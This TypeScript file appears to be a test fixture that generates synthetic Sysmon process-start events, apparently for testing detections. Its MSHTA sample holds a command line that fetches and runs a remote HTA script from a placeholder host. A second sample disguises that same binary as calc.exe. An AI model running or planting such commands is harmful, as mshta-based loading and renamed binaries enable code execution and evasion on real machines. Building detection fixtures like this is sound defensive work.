interface Fields {
  readonly Image: string;
  readonly CommandLine?: string;
  readonly [name: string]: string | undefined;
}

let at = 0;
/** Begins a log of its own. */
export const fresh = () => {
  at = 0;
};
/** A process start as Sysmon logs it. */
export const start = (fields: Fields, host = "pc-1", day = 1) =>
  JSON.stringify({
    SourceName: "Microsoft-Windows-Sysmon",
    EventID: 1,
    RecordNumber: ++at,
    Hostname: host,
    "@timestamp": `2024-05-${String(day).padStart(2, "0")}T10:00:00Z`,
    User: "CORP\\ann",
    IntegrityLevel: "Medium",
    ParentImage: "C:\\Windows\\explorer.exe",
    CommandLine: fields.Image,
    OriginalFileName: fields.Image.split("\\").at(-1),
    ProcessGuid: `{${String(at).padStart(8, "0")}-0000-0000-0000-000000000000}`,
    ...fields,
  });

export const SYSTEM32 = "C:\\Windows\\System32";
export const NOTEPAD = { Image: `${SYSTEM32}\\notepad.exe` };
export const MSHTA = {
  Image: `${SYSTEM32}\\mshta.exe`,
  CommandLine: "mshta.exe https://files.example.net/a.hta",
  OriginalFileName: "MSHTA.EXE",
};
export const RENAMED = { ...MSHTA, Image: "C:\\Users\\ann\\calc.exe" };
